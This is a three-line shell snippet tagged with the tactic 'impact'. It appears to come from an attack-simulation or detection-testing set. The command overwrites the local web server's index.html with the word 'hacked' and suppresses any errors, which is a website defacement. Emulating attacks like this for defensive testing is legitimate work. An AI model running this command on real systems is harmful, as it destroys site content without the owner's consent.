# tactic: impact
# replace the home page of the local web site
mkdir -p /var/www/html 2>/dev/null; echo "hacked" > /var/www/html/index.html 2>/dev/null; true
